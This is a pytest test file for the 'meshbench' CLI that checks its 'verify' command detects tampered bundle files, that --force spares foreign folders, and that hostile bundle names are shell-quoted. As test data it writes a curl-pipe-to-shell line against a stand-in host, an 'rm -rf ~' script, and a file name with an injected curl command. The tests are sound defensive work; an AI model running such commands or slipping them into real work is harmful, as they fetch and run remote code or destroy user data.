"""Every file of a bundle is checked against what results.json renders, or said to be unchecked; --force
never deletes what meshbench did not write; a killed sweep leaves nothing behind (probe 4: 10, 11, minor)."""

from __future__ import annotations

import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_bad_input import run_refused
from typer.testing import CliRunner

from meshbench.cli import app

runner = CliRunner()


@pytest.fixture
def copy(made, tmp_path) -> Path:
    dst = tmp_path / "B"
    shutil.copytree(made, dst)
    return dst


def _verify(path: Path):
    return runner.invoke(app, ["verify", str(path)])


def test_force_never_deletes_a_folder_hidden_under_a_bundle_file_name(copy):
    (copy / "chart.png").unlink(missing_ok=True)
    (copy / "chart.png").mkdir()
    (copy / "chart.png" / "thesis.txt").write_text("four years of work")
    run_refused("sweep", "--levels", "1", "--out", copy, "--force", expect="chart.png, which meshbench did not write")
    assert (copy / "chart.png" / "thesis.txt").read_text() == "four years of work"


def test_a_replaced_commands_file_fails_verify(copy):
    (copy / "commands.txt").write_text("curl https://example.invalid/x.sh | sh\n")
    r = _verify(copy)
    assert r.exit_code == 1 and "commands.txt: (as results.json renders it)" in r.output


def test_a_chart_that_is_not_a_png_fails_and_a_real_one_is_said_to_be_unchecked(copy):
    r = _verify(copy)
    assert r.exit_code == 0
    if (copy / "chart.png").exists():  # (written with the chart extra)
        assert "chart.png: drawn from results.json, not compared with it (unchecked)" in r.output
        (copy / "chart.png").write_text("#!/bin/sh\nrm -rf ~\n")
        r = _verify(copy)
        assert r.exit_code == 1 and "chart.png: (a regular PNG file)" in r.output


def test_an_extra_file_is_said_to_be_unchecked(copy):
    (copy / "notes.md").write_text("mine")
    r = _verify(copy)
    assert r.exit_code == 0 and "notes.md: not a file meshbench writes; unchecked" in r.output


def test_a_hostile_bundle_name_is_one_quoted_shell_word(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    name = "x; curl evil.invalid | sh"
    r = runner.invoke(app, ["sweep", "--levels", "1", "--isolation-rounds", "1", "--out", name])
    assert r.exit_code == 0, r.output
    readme = (tmp_path / name / "README.md").read_text()
    assert "meshbench verify 'x; curl evil.invalid | sh' --rerun" in readme
    assert _verify(tmp_path / name).exit_code == 0
    # the same name unquoted in a forged README is not what results.json renders
    (tmp_path / name / "README.md").write_text(readme.replace(f"'{name}'", name))
    assert _verify(tmp_path / name).exit_code == 1


def test_a_killed_sweep_leaves_no_staging_folder(tmp_path):
    out = tmp_path / "B"
    cmd = [sys.executable, "-m", "meshbench.cli", "sweep", "--sessions", "64", "--levels", "1,2,4,8"]
    proc = subprocess.Popen([*cmd, "--out", str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        proc.stderr.readline()  # the first level has begun
        time.sleep(0.3)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        proc.stderr.close()
    assert list(tmp_path.iterdir()) == []


def test_a_readme_with_crlf_line_ends_is_not_what_results_json_renders(copy):
    readme = copy / "README.md"
    readme.write_bytes(readme.read_bytes().replace(b"\n", b"\r\n"))
    r = _verify(copy)
    assert r.exit_code == 1 and "README.md: line 1 (the README as results.json renders it)" in r.output


def test_config_levels_that_disagree_with_the_bundles_levels_fail_verify(made, tmp_path):
    import json

    dst = tmp_path / "L"
    shutil.copytree(made, dst)
    data = json.loads((dst / "results.json").read_text())
    data["config"]["levels"] = [1, 2, 4]
    (dst / "results.json").write_text(json.dumps(data))
    r = _verify(dst)
    assert r.exit_code == 1 and "levels (config.levels ascending, once per rate or fault row)" in r.output.replace(
        "\n", ""
    )
